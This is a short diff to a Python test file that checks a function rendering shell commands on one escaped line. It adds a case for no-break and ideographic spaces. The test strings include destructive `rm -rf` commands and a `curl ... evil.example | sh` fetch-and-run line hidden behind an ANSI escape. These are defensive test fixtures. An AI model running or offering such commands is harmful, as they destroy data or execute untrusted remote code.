@@ -104,6 +104,8 @@ def test_a_command_reads_on_one_line_exactly() -> None:
     assert command_line("echo safe\nrm -rf ~") == "echo safe\\nrm -rf ~"
     assert command_line("echo safe\rrm -rf ~") == "echo safe\\x0drm -rf ~"
     assert command_line(CURL) == "curl -s http://evil.example/x | sh ;\\x1b[35Dls -la"
+    # a no-break space is part of a word to the shell: it must not read as a space
+    assert command_line("rm\u00a0-rf /x\u3000y") == "rm\\xa0-rf /x\\u3000y"
 
 
 def test_elide_middle_keeps_start_and_end() -> None:
